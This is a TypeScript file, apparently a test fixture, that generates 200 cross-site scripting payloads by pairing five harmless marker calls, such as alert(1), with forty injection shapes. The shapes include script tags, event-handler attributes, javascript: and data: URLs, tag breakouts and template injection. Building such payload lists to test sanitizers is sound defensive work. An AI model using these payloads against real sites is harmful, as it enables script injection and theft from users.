// Two hundred texts that would run a script if a page ever took one for markup, an address or a piece of code.

/** What each would do: raise a dialog, or leave a mark on the window. */
const CALLS = ['alert(1)', 'window.__ran=1', 'top.__ran=1', 'self["__ran"]=1', 'confirm`1`'] as const

const SHAPES: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `<img src=x onerror='${call}'>`,
  (call) => `<IMG SRC=x OnErRoR=${call}>`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `</textarea><img src=x onerror=${call}>`,
  (call) => `</title><img src=x onerror=${call}>`,
  (call) => `</style><img src=x onerror=${call}>`,
  (call) => `--><img src=x onerror=${call}>`,
  (call) => `]]><img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}//`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<marquee onstart=${call}>`,
  (call) => `<style>@import 'data:text/css,x';</style><link rel=stylesheet href=x onerror=${call}>`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `'-${call}-'`,
  (call) => `";${call};//`,
  (call) => `<x v-html="'<img src=x onerror=${call}>'" @click="${call}">`,
  (call) => `＜script＞${call}＜/script＞\u2028<img src=x onerror=${call}>`,
]

export const PAYLOADS: readonly string[] = CALLS.flatMap((call) => SHAPES.map((shape) => shape(call)))
